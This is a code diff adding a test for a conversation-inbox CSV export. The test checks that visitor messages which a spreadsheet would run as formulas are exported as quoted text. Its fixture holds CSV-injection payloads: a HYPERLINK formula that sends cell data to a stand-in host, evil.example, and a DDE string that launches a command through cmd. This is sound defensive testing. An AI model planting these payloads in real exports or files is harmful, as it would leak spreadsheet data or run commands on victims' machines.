@@ -95,4 +95,19 @@ describe('the conversation inbox', () => {
     expect(csv.text.trim().split('\r\n')).toHaveLength(1 + 6)
     expect((await call(exportRoute.GET, '/api/conversations/export')).status).toBe(401)
   })
+
+  test("a visitor's question that a spreadsheet would run as a formula is exported as text (OWASP's leading ')", async () => {
+    const tenant = await createTenant()
+    const agent = await seedAgent(tenant.ctx.organizationId)
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\tlead', '\rlead']
+    await seedConversation(tenant.ctx.organizationId, agent.id, { channel: 'website', messages: hostile.map(text => ({ role: 'user' as const, text })) })
+    const csv = await call(exportRoute.GET, '/api/conversations/export?format=csv', { headers: tenant.headers })
+    const cells = csv.text.split(/,|\r\n/)
+    for (const text of hostile) {
+      const quoted = /[",\r\n]/.test(`'${text}`) ? `"'${text.replace(/"/g, '""')}"` : `'${text}`
+      expect(csv.text, text).toContain(quoted)
+    }
+    // no cell starts with a formula character
+    expect(cells.filter(cell => /^"?[=+\-@\t\r]/.test(cell))).toEqual([])
+  })
 })
